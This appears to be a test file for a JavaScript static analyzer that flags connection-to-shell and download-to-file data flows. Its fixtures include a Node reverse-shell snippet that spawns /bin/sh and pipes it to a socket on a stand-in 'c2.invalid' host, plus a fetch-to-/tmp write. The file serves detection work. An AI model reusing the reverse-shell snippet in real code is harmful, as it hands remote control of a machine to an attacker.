import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { readJs } from '../../../src/analyze/js/index.ts'

const kinds = (text: string) => readJs(text, 'a.js').signals.map(({ kind }) => kind)
const start = `const net = require('net'), sh = require('child_process').spawn('/bin/sh'), socket = net.connect(9, 'c2.invalid');`

test('either direction between a connection and a shell is one', () => {
  assert.ok(kinds(`${start} socket.pipe(sh.stdin)`).includes('flow/shell'))
  assert.ok(kinds(`${start} sh.stdout.pipe(socket)`).includes('flow/shell'))
})

test('what comes from outside and flows into a file is told with its host and path', () => {
  const text = `require('https').get('https://a.invalid/x').on('response', (r) => r.pipe(require('fs').createWriteStream('/tmp/x')))`
  const written = readJs(text, 'a.js').signals.find(({ kind }) => kind === 'flow/write')
  assert.equal([written?.args['host'], written?.args['path']], ['a.invalid', '/tmp/x'])
})

test('a pipeline is a row of pipes', () => {
  const got = `import { pipeline } from 'node:stream/promises'; import { createGunzip } from 'node:zlib'; import fs from 'node:fs'
    const { body } = await fetch('https://a.invalid/x')`
  const written = readJs(`${got}; await pipeline(body, createGunzip(), fs.createWriteStream('/tmp/x'))`, 'a.mjs')
  const found = written.signals.find(({ kind }) => kind === 'flow/write')
  assert.equal([found?.args['host'], found?.args['path']], ['a.invalid', '/tmp/x'])
  assert.ok(kinds(`${start} require('stream').pipeline(socket, sh.stdin, () => {})`).includes('flow/shell'))
  const copy = `const fs = require('fs'); require('stream').pipeline(fs.createReadStream('./a'), fs.createWriteStream('./b'), () => {})`
  assert.not.ok(kinds(copy).some((kind) => kind.startsWith('flow/')))
})

test('a shell that talks to the terminal, and a file that goes to a file, are quiet', () => {
  assert.not.ok(kinds(`${start} sh.stdout.pipe(process.stdout)`).includes('flow/shell'))
  const copy = `const fs = require('fs'); fs.createReadStream('./a').pipe(fs.createWriteStream('./b'))`
  assert.not.ok(kinds(copy).some((kind) => kind.startsWith('flow/')))
})

test.run()
